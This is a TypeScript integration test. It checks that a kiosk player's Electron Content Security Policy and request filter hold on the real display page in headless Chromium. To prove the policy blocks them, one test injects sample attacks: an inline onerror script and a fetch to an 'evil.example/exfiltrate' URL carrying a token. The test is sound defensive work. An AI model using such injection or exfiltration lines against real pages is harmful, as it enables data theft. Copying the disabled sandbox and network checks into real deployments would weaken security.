/**
 * The kiosk window's session policy applied to the real display page in Debian's Chromium,
 * served by the real player core. Electron's session hooks are replayed through Playwright's
 * request routing: onBeforeRequest decides abort/continue and onHeadersReceived rewrites the
 * response headers, exactly as hardenSession wires them in Electron. The page must work under
 * the policy (connect to the core over WebSocket and show its pairing screen) without a single
 * CSP violation, while off-origin loads and inline script are refused.
 */
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { realClock } from '../../../shared/clock.ts';
import { startPlayerCore, type PlayerCore } from '../../../player/core/index.ts';
import type { Credentials } from '../../../player/core/credentials.ts';
import { hardenSession, type HardenableSession } from '../../../player/electron/security.ts';
import { chromium, type BrowserContext, type Page } from 'playwright-core';
import { CHROMIUM_PATH } from '../display/browser.ts';

type Listener<K extends 'onHeadersReceived' | 'onBeforeRequest'> = Parameters<
  HardenableSession['webRequest'][K]
>[0];

const distDir = fileURLToPath(new URL('../../../player/display/dist', import.meta.url));
let dataDir: string;
let core: PlayerCore;
let profile: string;
let context: BrowserContext;
let page: Page;
const logs: string[] = [];
const blocked: string[] = [];

beforeAll(async () => {
  if (!existsSync(join(distDir, 'index.html'))) {
    throw new Error(`${distDir}/index.html is missing: run "npm run build:web" first`);
  }
  dataDir = mkdtempSync(join(tmpdir(), 'csp-core-'));
  let saved: Credentials | null = null;
  core = await startPlayerCore({
    serverUrl: 'http://127.0.0.1:9', // nothing listens: the core shows pairing and keeps retrying
    dataDir,
    clock: realClock,
    credentials: {
      load: async () => saved,
      save: async (c) => void (saved = c),
      clear: async () => void (saved = null),
    },
    distDir,
    log: () => {},
  });
  const origin = new URL(core.displayUrl).origin;

  let onHeaders: Listener<'onHeadersReceived'> | undefined;
  let onBefore: Listener<'onBeforeRequest'> | undefined;
  hardenSession(
    {
      setPermissionRequestHandler: () => {},
      setPermissionCheckHandler: () => {},
      webRequest: { onHeadersReceived: (l) => (onHeaders = l), onBeforeRequest: (l) => (onBefore = l) },
    },
    origin,
  );

  profile = mkdtempSync(join(tmpdir(), 'csp-chromium-'));
  context = await chromium.launchPersistentContext(profile, {
    executablePath: CHROMIUM_PATH,
    headless: true,
    args: [
      '--no-sandbox',
      '--disable-gpu',
      '--disable-background-networking',
      '--disable-component-update',
      // A response fulfilled by Playwright has no IP address, so Chromium's Local Network
      // Access checks take the page for a public one and refuse its WebSocket to 127.0.0.1.
      // In Electron the page really comes from 127.0.0.1 and the check passes by itself.
      '--disable-features=LocalNetworkAccessChecks,LocalNetworkAccessChecksWebSockets',
    ],
  });
  page = context.pages()[0] ?? (await context.newPage());
  page.on('console', (m) => m.type() === 'error' && logs.push(m.text()));
  page.on('pageerror', (e) => logs.push(`pageerror: ${e.message}`));
  await context.route('**/*', async (route) => {
    const url = route.request().url();
    const cancel = await new Promise<boolean>((resolve) => onBefore!({ url }, (r) => resolve(!!r.cancel)));
    if (cancel) {
      blocked.push(url);
      await route.abort('blockedbyclient');
      return;
    }
    const response = await route.fetch();
    const headers = await new Promise<Record<string, string | string[]>>((resolve) =>
      onHeaders!({ url, responseHeaders: response.headers() }, (r) => resolve(r.responseHeaders ?? {})),
    );
    const flat = Object.fromEntries(
      Object.entries(headers).map(([k, v]) => [k, Array.isArray(v) ? v.join(', ') : v]),
    );
    await route.fulfill({ response, headers: flat });
  });
  await context.addInitScript(() => {
    const w = window as unknown as { __violations: string[] };
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      w.__violations.push(`${e.effectiveDirective} ${e.blockedURI}`),
    );
  });
}, 60_000);

// `?.`: a failed beforeAll leaves these unassigned, and cleanup must not hide its error.
/* eslint-disable @typescript-eslint/no-unnecessary-condition */
afterAll(async () => {
  await context?.close();
  await core?.stop();
  rmSync(dataDir, { recursive: true, force: true });
  rmSync(profile, { recursive: true, force: true });
});
/* eslint-enable @typescript-eslint/no-unnecessary-condition */

const violations = () => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);

describe('kiosk CSP and request filter on the real display page', () => {
  it('lets the page load, reach the core over WebSocket and show pairing, with no CSP violation of its own', async () => {
    const res = await page.goto(core.displayUrl);
    expect(res?.headers()['content-security-policy']).toContain("script-src 'self'");
    await page.waitForFunction(() => document.body.classList.contains('screen-pairing'), null, {
      timeout: 10_000,
    });
    // zod (bundled in the page) probes once whether eval is allowed, catches the refusal and
    // parses without its JIT; that probe is the only report the page may cause.
    expect((await violations()).filter((v) => v !== 'script-src eval')).toEqual([]);
    expect(blocked).toEqual([]);
    expect(logs.filter((l) => /Content Security Policy|Refused/i.test(l))).toEqual([]);
  });

  it('refuses off-origin loads and inline script injected into the page', async () => {
    const outcome = await page.evaluate(async () => {
      const w = window as unknown as { __pwned?: number };
      const img = document.createElement('img');
      img.src = 'https://evil.example/pixel.png';
      document.body.append(img);
      document.body.insertAdjacentHTML('beforeend', '<img src="/missing.png" onerror="window.__pwned = 1">');
      // Our own listener, added after the inline handler, runs after it in the same dispatch:
      // once it has run, the inline handler has run too, or was refused.
      const missing = document.body.lastElementChild as HTMLImageElement;
      const errored = new Promise((r) => missing.addEventListener('error', r, { once: true }));
      let fetched = 'no';
      try {
        await fetch('https://evil.example/exfiltrate?token=x');
        fetched = 'yes';
      } catch {
        fetched = 'refused';
      }
      await errored;
      return { fetched, pwned: w.__pwned ?? null };
    });
    expect(outcome).toEqual({ fetched: 'refused', pwned: null });
    // Reports are queued events: wait for the three, do not sleep for them.
    await page.waitForFunction(
      () =>
        ['img-src', 'connect-src', 'script-src-attr'].every((d) =>
          (window as unknown as { __violations: string[] }).__violations.some((x) => x.startsWith(`${d} `)),
        ),
      null,
      { timeout: 10_000 },
    );
    const v = await violations();
    expect(v).toContain('img-src https://evil.example/pixel.png');
    expect(v.some((x) => x.startsWith('connect-src https://evil.example/exfiltrate'))).toBe(true);
    expect(v.some((x) => x.startsWith('script-src-attr'))).toBe(true);
  });
});
